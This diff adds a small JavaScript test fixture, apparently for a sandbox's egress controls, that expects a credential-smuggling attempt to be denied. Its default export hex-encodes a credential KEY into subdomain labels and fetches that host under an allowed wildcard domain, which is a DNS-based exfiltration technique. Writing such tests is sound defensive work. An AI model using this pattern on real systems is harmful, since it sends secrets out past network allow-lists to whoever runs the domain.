@@ -1,0 +1,17 @@
+export const attempt = {
+  tries: "to send a value that it was given itself as the name of a host",
+  refusedBecause: "names are searched before anybody is asked for their address",
+  receipt: { host: "(a host name that holds a credential)", requests: 0 },
+  ends: { code: "egress_denied", message: "it would be sent the credential KEY" },
+  allowedHosts: ["*.example.com"],
+  keyHosts: ["http://{witness}"],
+  keyIsExposed: true,
+};
+
+export default async (_, { credentials }) => {
+  const bytes = new TextEncoder().encode(credentials.KEY);
+  const hex = [...bytes].map((byte) => byte.toString(16).padStart(2, "0")).join("");
+  const labels = hex.match(/.{1,60}/g).join(".");
+  await fetch(`https://${labels}.example.com/`);
+  return "got through";
+};
